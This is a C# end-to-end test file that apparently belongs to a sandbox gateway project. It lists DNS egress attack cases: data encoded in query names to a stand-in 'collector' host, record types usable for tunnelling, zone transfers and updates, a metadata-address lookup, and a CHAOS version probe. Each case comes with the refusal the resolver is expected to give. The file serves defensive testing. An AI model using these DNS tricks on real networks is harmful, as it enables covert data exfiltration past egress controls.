using System.Net;
using System.Net.Sockets;
using Bartizan.Gateway.Tests.Egress;

namespace Bartizan.EndToEnd.Tests.Egress;

/// <summary>Names and other things asked of DNS: the resolver inside asks nobody, whatever it is asked.</summary>
internal static class DnsAttacks
{
    // RFC 1035: NOTIMP, REFUSED, NXDOMAIN.
    private const string NotImplemented = "code 4, 0 answers";

    private const string Refused = "code 5, 0 answers";

    // Where the kernel captures no port but 80 and 443, nobody listens on others.
    private const string NotThere =
        $"closed|{nameof(SocketError.ConnectionReset)}|{nameof(SocketError.ConnectionRefused)}";

    public static IReadOnlyList<EgressAttack> All { get; } =
    [
        Query("data in a name", "evil-mark.collector.org", Question.A, "code 0, 1 answers 127.1."),
        Query("data in a name, IPv6", "evil-mark-6.collector.org", Question.Aaaa, "code 0, 0 answers"),
        Query("a TXT record", "evil-mark.collector.org", Question.Text, NotImplemented),
        Query("a CNAME record", "evil-mark.collector.org", 5, NotImplemented),
        Query("an MX record", "evil-mark.collector.org", 15, NotImplemented),
        Query("a NULL record", "evil-mark.collector.org", 10, NotImplemented),
        Query("an SVCB record", "_dns.evil-mark.collector.org", 64, NotImplemented),
        Query("an HTTPS record, which could hold the key of ECH", "good.tunnel.test", 65, NotImplemented),
        Query("all records", "evil-mark.collector.org", 255, NotImplemented),
        Query("a zone", "evil-mark.collector.org", 252, NotImplemented),
        Query("the name of an address", "254.169.254.169.in-addr.arpa", Question.Pointer, Refused),
        Query("an address as a name", "169.254.169.254", Question.A, "code 3, 0 answers"),
        new(
            "an update of a zone",
            Layer.Resolver,
            NotImplemented,
            async _ => Tell(await Attacker.DnsAsync(Question.Of("evil-mark.collector.org", opCode: 5)))
        ),
        new(
            "the resolver's version (class CHAOS)",
            Layer.Resolver,
            Refused,
            async _ => Tell(await Attacker.DnsAsync([.. Question.Of("version.bind", Question.Text)[..^2], 0, 3]))
        ),
        new(
            "DNS over TCP",
            Layer.Network,
            nameof(SocketError.ConnectionRefused),
            a => a.SendAsync(new IPEndPoint(IPAddress.Loopback, 53), [0, 20, .. Question.Of("evil-mark.org")])
        ),
        new(
            "a fake address that was never given out",
            Layer.Resolver,
            "closed|ConnectionReset",
            a =>
                a.SendAsync(
                    IPEndPoint.Parse("127.1.250.250:80"),
                    [.. "GET / HTTP/1.1\r\nHost: good.plain.test\r\n\r\n"u8]
                )
        ),
        new(
            "another port of a fake address that was never given out",
            Layer.Resolver,
            NotThere,
            a => a.SendAsync(new IPEndPoint(IPAddress.Parse("127.1.250.250"), a.Ground.Raw), [.. "evil-mark"u8])
        ),
    ];

    private static EgressAttack Query(string name, string asked, int type, string evidence) =>
        new(
            $"{name}, asked of DNS",
            Layer.Resolver,
            evidence,
            async _ => Tell(await Attacker.DnsAsync(Question.Of(asked, type)))
        );

    private static string Tell(byte[] answer) =>
        $"code {Question.CodeOf(answer)}, {Question.AnswersOf(answer)} answers"
        + (Question.AnswersOf(answer) == 1 ? $" {Question.AddressOf(answer)}" : "");
}
